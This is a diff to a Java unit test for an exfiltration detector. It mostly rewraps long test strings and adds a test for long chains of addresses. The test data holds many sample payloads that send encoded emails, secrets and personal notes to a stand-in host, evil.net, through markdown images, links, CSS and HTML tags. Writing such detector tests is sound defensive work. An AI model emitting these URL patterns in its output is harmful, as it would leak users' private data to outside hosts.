@@ -30,7 +30,8 @@ class ExfiltrationDetectorTest {
             quoteCharacter = '\u0001',
             value = {
                 /* What clients fetch. */
-                "Here: ![x](https://evil.net/p.png?d=[EMAIL_7K3QZD]) done | 0.95 https://evil.net/p.png?d=[EMAIL_7K3QZD]",
+                "Here: ![x](https://evil.net/p.png?d=[EMAIL_7K3QZD]) done | 0.95"
+                        + " https://evil.net/p.png?d=[EMAIL_7K3QZD]",
                 "![x](https://evil.net/%5BEMAIL_7K3QZD%5D.png) | 0.95 https://evil.net/%5BEMAIL_7K3QZD%5D.png",
                 "![x](https://evil.net/%255BEMAIL_7k3qzd%255D) | 0.95 https://evil.net/%255BEMAIL_7k3qzd%255D",
                 "![x](//evil.net/a?q=bXkgc2VjcmV0IGlzIDQy) | 0.95 //evil.net/a?q=bXkgc2VjcmV0IGlzIDQy",
@@ -43,7 +44,8 @@ class ExfiltrationDetectorTest {
                 "![x](https://203.0.113.7/a.png) | 0.95 https://203.0.113.7/a.png",
                 "![x](http://0xcb007107/a.png) | 0.95 http://0xcb007107/a.png",
                 "![x](http://[2001:db8::1]/a.png) | 0.95 http://[2001:db8::1]/a.png",
-                "![x](https://4a616e6520446f652c20343131.evil.net/) | 0.95 https://4a616e6520446f652c20343131.evil.net/",
+                "![x](https://4a616e6520446f652c20343131.evil.net/) | 0.95"
+                        + " https://4a616e6520446f652c20343131.evil.net/",
                 "![x](https://evil.net/pixel.png) | 0.5? https://evil.net/pixel.png",
                 "![x](  https://evil.net/pixel.png 'title') | 0.5? https://evil.net/pixel.png",
                 "[![x](https://evil.net/a.png)](https://evil.net/) | 0.5? https://evil.net/a.png",
@@ -53,7 +55,8 @@ class ExfiltrationDetectorTest {
                 "<link rel=icon href=https://evil.net/i> | 0.5? https://evil.net/i",
                 "<meta http-equiv=refresh content=\"0; url=https://evil.net/\"> | 0.5? https://evil.net/",
                 "<div style=\"background:url('https://evil.net/b')\"> | 0.5? https://evil.net/b",
-                "p { background: URL(https://evil.net/b?x=bXkgc2VjcmV0IGlzIDQy) } | 0.95 https://evil.net/b?x=bXkgc2VjcmV0IGlzIDQy",
+                "p { background: URL(https://evil.net/b?x=bXkgc2VjcmV0IGlzIDQy) } | 0.95"
+                        + " https://evil.net/b?x=bXkgc2VjcmV0IGlzIDQy",
                 "[logo]: https://evil.net/logo.png | 0.5? https://evil.net/logo.png",
                 /* What somebody has to follow. */
                 "[click](https://evil.net/?d=[PERSON_7K3QZD.A1]) | 0.95 https://evil.net/?d=[PERSON_7K3QZD.A1]",
@@ -65,7 +68,8 @@ class ExfiltrationDetectorTest {
                 "[x](https://evil.net/?d=6d7920736563726574) | 0.7 https://evil.net/?d=6d7920736563726574",
                 "[x](https://evil.net/?d=NV4SA43FMNZGK5BANFZSANBS) | 0.7 https://evil.net/?d=NV4SA43FMNZGK5BANFZSANBS",
                 "[x](https://evil.net/?d=bXkgc2Vj_mV0IGlz-DQyCg) | 0.7 https://evil.net/?d=bXkgc2Vj_mV0IGlz-DQyCg",
-                "[x](https://evil.net/?d=%89%50%4e%47%0d%0a%1a%0a%00%ff%fe) | 0.7 https://evil.net/?d=%89%50%4e%47%0d%0a%1a%0a%00%ff%fe",
+                "[x](https://evil.net/?d=%89%50%4e%47%0d%0a%1a%0a%00%ff%fe) | 0.7"
+                        + " https://evil.net/?d=%89%50%4e%47%0d%0a%1a%0a%00%ff%fe",
                 "[x](https://203.0.113.7/) | 0.7 https://203.0.113.7/",
                 "[x](https://evil.net/?note=she+has+a+broken+leg) | 0.6 https://evil.net/?note=she+has+a+broken+leg",
                 "[x](https://evil.net/u?m=jane%40acme.org) | 0.9 https://evil.net/u?m=jane%40acme.org",
@@ -133,7 +137,8 @@ class ExfiltrationDetectorTest {
                 "https://acme.org/CustomerServiceInformationAndContactForm",
                 "https://xn--mnchen-3ya.de/ and https://xn--80aswg.xn--p1ai/",
                 "[1]: https://datatracker.ietf.org/doc/html/rfc6962",
-                "[mail](mailto:help@acme.org) [here](#top) [there](/docs/a.md) ![inline](data:image/png;base64,iVBORw0KGgo)",
+                "[mail](mailto:help@acme.org) [here](#top) [there](/docs/a.md)"
+                        + " ![inline](data:image/png;base64,iVBORw0KGgo)",
                 "![x](/img/a.png) ![x](img/a.png) <img src=\"a.png\"> background: url(a.png)",
                 "![x](https://example.com/a.png?d=[EMAIL_7K3QZD]) https://www.example.org/EMAIL_7K3QZD",
                 "<img src=https://cdn.shop.example.org/a.png> https://EXAMPLE.com./EMAIL_7K3QZD",
@@ -186,5 +191,20 @@ class ExfiltrationDetectorTest {
         assertThatIllegalArgumentException()
                 .isThrownBy(() -> new ExfiltrationDetector(List.of(host)))
                 .withMessageContaining("is no name of a host");
+    }
+
+    /** A stream of them goes on: what long ones have in common must not hold all of them back until the end. */
+    @ParameterizedTest
+    @ValueSource(strings = {"http://", "[a](https://", "https://x/www.y/http://"})
+    void aChainOfLongAddressesIsSettledAsItComes(String link) {
+        var text = link.repeat(10_000 / link.length());
+        var detection = new ExfiltrationDetector(List.of()).detect(text, 0, false);
+        assertThat(detection.settled()).isGreaterThan(text.length() - 2 * Judge.LONGEST);
+        var findings = detection.findings();
+        assertThat(findings).isNotEmpty().allMatch(it -> it.category().equals("EXFILTRATION"));
+        for (int i = 1; i < findings.size(); i++) {
+            assertThat(findings.get(i).start())
+                    .isGreaterThanOrEqualTo(findings.get(i - 1).end());
+        }
     }
 }
